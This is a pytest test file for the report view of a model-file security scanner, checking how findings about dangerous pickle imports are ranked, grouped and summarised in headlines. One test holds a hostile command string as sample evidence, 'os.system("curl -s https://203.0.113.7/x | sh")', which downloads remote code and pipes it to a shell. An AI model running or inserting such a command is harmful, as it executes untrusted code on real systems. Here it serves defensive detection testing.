from __future__ import annotations

import pytest

from scanner.domain import Cause, Change, Incomplete, Report, Severity, Verdict
from scanner.report.view import view
from scanner.rules import RULES
from tests.report import samples


def test_one_row_per_model_and_the_worst_first() -> None:
    rows = view(samples.failing()).rows
    assert [(row.names, row.severity) for row in rows] == [
        (("models/ranker.bin",), Severity.CRITICAL),
        (("acme/ner",), Severity.HIGH),
        (("assets/logo.png",), Severity.MEDIUM),
        (("models/big-01.safetensors", "models/big-02.safetensors"), None),
    ]
    ranker, ner, _, shards = rows
    assert [(said.rule, said.offset, said.decides) for said in ranker.said] == [
        ("pickle-dangerous-import", 214, True),
        ("pickle-suspicious-import", 71, False),
    ]
    assert (ner.before, ner.after, ner.places) == ("a1b2c3d", "e4f5a6b", ("serve.py:41",))
    assert [gap.cause for gap in shards.unread] == [Cause.ACCESS]


def test_what_the_base_had_is_a_count_unless_the_change_touches_the_file() -> None:
    old = samples.finding("pickle-dangerous-import", "m.bin", symbol="os.system", new=False)
    assert view(samples.report(Verdict.PASS, findings=[old])).older == 1
    told = view(samples.report(Verdict.FAIL, findings=[old.model_copy(update={"blocking": True})]))
    assert (told.older, len(told.rows)) == (0, 1)
    touched = samples.artifact("m.bin", change="modified")
    shown = view(
        samples.report(
            Verdict.FAIL,
            artifacts=[touched],
            findings=[old.model_copy(update={"artifact": touched.id})],
        )
    )
    assert (shown.older, len(shown.rows)) == (0, 1)


def test_same_rule_in_one_model_is_said_once() -> None:
    model = samples.artifact("m.bin")
    findings = [
        samples.finding("pickle-dangerous-import", "m.bin", artifact=model.id, symbol=symbol)
        for symbol in ("os.system", "builtins.eval", "posix.popen")
    ]
    (row,) = view(samples.report(Verdict.FAIL, artifacts=[model], findings=findings)).rows
    assert [said.more for said in row.said] == [2]
    assert len(row.todo) == 1


def test_the_evidence_stands_in_for_the_symbol_it_begins_with() -> None:
    (said, _) = view(samples.failing()).rows[0].said
    call = 'os.system("curl -s https://203.0.113.7/x | sh")'
    assert (said.text, said.symbol, said.evidence) == (f"Loading this file runs {call}", call, "")
    other = samples.finding("pickle-dangerous-import", "m.bin", symbol="os.system", evidence="REDUCE at 7")
    (row,) = view(samples.report(Verdict.FAIL, findings=[other])).rows
    assert (row.said[0].symbol, row.said[0].evidence) == ("os.system", "REDUCE at 7")


def test_examples_fold_only_below_the_gate() -> None:
    mild = samples.finding("pickle-suspicious-import", "examples/a.pkl", symbol="x.y")
    grave = samples.finding("pickle-dangerous-import", "tests/b.pkl", symbol="os.system")
    named_so = samples.finding("pickle-suspicious-import", "docs", symbol="x.y")
    shown = view(samples.report(Verdict.FAIL, findings=[mild, grave, named_so]))
    assert [row.names for row in shown.folded] == [("examples/a.pkl",)]
    assert [row.names for row in shown.rows] == [("tests/b.pkl",), ("docs",)]
    deciding = mild.model_copy(update={"blocking": True})
    assert not view(samples.report(Verdict.FAIL, findings=[deciding])).folded


def test_what_the_policy_lets_be_unread_is_told_but_not_held_against_the_change() -> None:
    gap = samples.incomplete().incomplete[0].model_copy(update={"waived": "acme may be unread"})
    shown = view(samples.report(Verdict.WARN, incomplete=[gap]))
    assert (shown.unread, shown.aside_count) == (0, 1)
    assert shown.headline == "Look before merging: 1 thing not checked"


def test_a_modified_model_says_what_it_imports_and_calls_now() -> None:
    told = samples.artifact(
        "a.pkl", change="modified", imports_added=["os.system"], calls_added=["os.system('id')"]
    )
    quiet = samples.artifact("b.pkl", change="modified", imports_removed=["c.d"], calls_removed=["c.d(1)"])
    found = samples.finding("pickle-dangerous-import", "a.pkl", artifact=told.id, symbol="os.system")
    shown = view(samples.report(Verdict.FAIL, artifacts=[told, quiet], findings=[found]))
    (row,) = shown.rows
    assert [(drift.what, drift.names) for drift in row.drifts] == [
        ("imports now also", ("os.system",)),
        ("calls now also", ("os.system('id')",)),
    ]
    ((path, drifts),) = shown.drifted
    assert (path, [(drift.what, drift.names) for drift in drifts]) == (
        "b.pkl",
        [("no longer imports", ("c.d",)), ("no longer calls", ("c.d(1)",))],
    )


def test_what_a_witness_alone_says_is_in_the_report_and_nowhere_else() -> None:
    note = samples.finding("witness-disagrees", "a.pkl", symbol="builtins.getattr", evidence="x", new=True)
    shown = view(samples.report(Verdict.PASS, findings=[note]))
    assert (shown.rows, shown.notes, shown.older) == ((), (), 0)
    loud = note.model_copy(update={"severity": Severity.MEDIUM})
    assert len(view(samples.report(Verdict.WARN, findings=[loud])).rows) == 1
    blocking = note.model_copy(update={"blocking": True})
    assert len(view(samples.report(Verdict.FAIL, findings=[blocking])).rows) == 1


def test_everything_is_counted() -> None:
    shown = view(samples.everything())
    assert (shown.read, shown.of, shown.references, shown.older) == (5, 7, 2, 31)
    assert [finding.rule for finding in shown.accepted] == ["keras-lambda-layer"]
    assert shown.removed == ("models/gone.bin",)
    assert [row.names for row in shown.aside] == [("org/base",)]
    assert [row.names for row in shown.notes] == [(".github/modelward.yml",)]
    assert next(row.was for row in shown.rows if row.names == ("acme/ner",)) is None


@pytest.mark.parametrize(
    ("report", "line"),
    [
        (samples.nothing(), "No model files or references in this change"),
        (samples.passing(), "No problem found: 3 model files read"),
        (samples.failing(), "Do not merge: 1 malicious file, 1 denied licence, 2 files not read"),
        (samples.incomplete(), "Not fully checked: 1 file not read"),
        (
            samples.report(
                Verdict.FAIL, reasons=["The lock file is broken."], references=samples.failing().references
            ),
            "Do not merge: The lock file is broken",
        ),
        (
            samples.report(
                Verdict.WARN,
                findings=[samples.finding("pickle-suspicious-import", "a.pkl", symbol="x.y")],
                incomplete=[
                    Incomplete(
                        subject="org/base", cause=Cause.OFFLINE, detail="Offline.", action="Go online."
                    )
                ],
            ),
            "Look before merging: 1 medium finding, 1 thing not checked",
        ),
        (
            samples.report(
                Verdict.PASS, artifacts=[samples.artifact("a.bin", change="removed", status="skipped")]
            ),
            "No problem found: 1 model file removed",
        ),
        (samples.many(1_200), "Do not merge: 1,200 malicious files"),
    ],
)
def test_the_headline_says_what_to_do_and_why(report: Report, line: str) -> None:
    assert view(report).headline == line


@pytest.mark.parametrize(
    ("mode", "line"),
    [
        ("all", "Problems found"),
        ("files", "Do not load"),
        ("staged", "Do not merge"),
        ("change", "Do not merge"),
    ],
)
def test_the_headline_fits_what_was_looked_at(mode: str, line: str) -> None:
    report = samples.failing().model_copy(update={"change": Change.model_validate({"mode": mode})})
    assert view(report).headline.startswith(f"{line}: ")


def test_every_rule_that_fails_by_default_has_a_noun() -> None:
    for rule in RULES.values():
        if Severity(rule.severity).rank >= Severity.HIGH.rank:
            found = samples.finding(rule.id, "m.bin", symbol="x")
            line = view(samples.report(Verdict.FAIL, findings=[found])).headline
            assert not line.endswith("finding"), f"{rule.id} needs a row in scanner/report/headline.py"
